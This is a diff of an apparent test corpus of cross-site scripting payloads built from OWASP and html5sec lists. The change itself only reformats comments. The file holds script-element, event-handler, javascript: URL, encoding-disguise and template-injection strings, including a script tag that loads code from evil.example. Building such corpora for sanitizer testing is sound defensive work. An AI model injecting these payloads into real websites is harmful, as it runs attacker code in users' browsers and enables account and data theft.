@@ -4,7 +4,7 @@
  * all disguises. Made of parts after the collections of OWASP and html5sec, so that what is missing can be seen.
  */
 
-/** Ways out of the place that a text stands in. */
+// Ways out of the place that a text stands in.
 const escapes = [
   '',
   '">',
@@ -20,7 +20,7 @@ const escapes = [
   '&quot;>',
 ]
 
-/** Elements that run something by themselves. */
+// Elements that run something by themselves.
 const elements = [
   '<script>alert(1)</script>',
   '<script src=//evil.example/x.js></script>',
@@ -58,7 +58,7 @@ const elements = [
   '<xss contenteditable autofocus onfocus=alert(1)>',
 ]
 
-/** Attributes for a text that stands in one. */
+// Attributes for a text that stands in one.
 const attributes = [
   'onmouseover=alert(1)',
   'onfocus=alert(1) autofocus',
@@ -72,7 +72,7 @@ const attributes = [
 
 const quotes = ['"', "'", '`', ' ', '" ', "' ", '\n', '\u0000"']
 
-/** Addresses that run. */
+// Addresses that run.
 const addresses = [
   'javascript:alert(1)',
   'vbscript:msgbox(1)',
@@ -80,7 +80,7 @@ const addresses = [
   'livescript:x',
 ]
 
-/** Spellings of one text that a browser may read as the same. */
+// Spellings of one text that a browser may read as the same.
 const disguises: ((text: string) => string)[] = [
   (text) => text,
   (text) => text.toUpperCase(),
@@ -108,7 +108,7 @@ const disguises: ((text: string) => string)[] = [
   (text) => `https://evil.example/?${text}#${text}`,
 ]
 
-/** Texts that languages other than HTML would run: templates, styles, JSON, feeds, logs. */
+// Texts that languages other than HTML would run: templates, styles, JSON, feeds, logs.
 const others = [
   '{{constructor.constructor("alert(1)")()}}',
   `$\{alert(1)}`,
